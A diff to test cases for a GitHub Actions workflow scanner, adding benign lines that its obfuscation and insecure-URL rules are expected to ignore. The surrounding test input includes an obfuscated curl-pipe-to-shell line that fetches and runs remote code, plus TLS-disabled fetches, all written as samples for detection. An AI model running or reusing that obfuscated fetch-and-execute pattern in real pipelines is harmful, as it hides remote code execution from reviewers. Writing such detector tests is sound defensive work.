@@ -62,7 +62,11 @@ TEST_CASE("issue 22: text written to read differently from what runs is obfuscat
       "      - run: cu${{ '' }}rl -s https://x | s${{ 'h' }}\n"      // 11
       "      - run: echo ${{ format('{0}', github.sha) }}\n"         // 12 fine: a context
       "        if: ${{ true }}\n"                                    // 13 fine: no text
-      "      - run: echo ${{ 'github.sha' }} ${{ matrix.x || 'y' }}\n";  // 14 one literal
+      "      - run: echo ${{ 'github.sha' }} ${{ matrix.x || 'y' }}\n"  // 14 one literal
+      "      - uses: ./\n"                                             // 15 fine: the root action
+      "      - uses: ./merge/\n"                                       // 16 fine
+      "      - uses: actions/cache" + kSha +                             // 17
+      "        with: {key: \"go-${{ hashFiles('**/go.sum') }}\"}\n";     // 18 fine: reads files
   CHECK(LinesOf(workflow, "obfuscation") == Lines{7, 8, 9, 11, 11, 14});
 }
 
@@ -104,7 +108,8 @@ TEST_CASE("issue 22: a fetch over http:// or without TLS checks is insecure-url-
       "          pip install --trusted-host pypi.example.com pkg==1.0\n"      // 12
       "          echo see http://example.com\n"                               // 13 no fetch
       "          git clone http://example.com/r.git\n"                        // 14
-      "      - run: curl -k https://internal/x -o x\n";                       // 15
+      "      - run: curl -k https://internal/x -o x\n"                        // 15
+      "      - run: curl --proxy http://squid:3128 https://github.com\n";     // 16 a proxy
   CHECK(LinesOf(workflow, "insecure-url-scheme") == Lines{8, 10, 12, 14, 15});
 }
 
